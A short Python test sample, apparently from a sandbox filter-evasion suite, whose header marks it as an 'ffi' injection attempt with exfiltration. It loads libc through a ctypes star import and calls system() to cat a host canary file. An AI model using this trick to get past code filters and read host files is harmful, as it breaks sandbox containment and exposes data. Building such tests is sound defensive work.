# family: injection
# filterfamily: ffi
# tries: star-import the foreign function module and call the C library's system() to cat the host /tmp canary
# source: none
# exfil: yes
import sys
from ctypes import *

libc = CDLL("libc.so.6")
libc.system(("cat " + sys.argv[3]).encode())
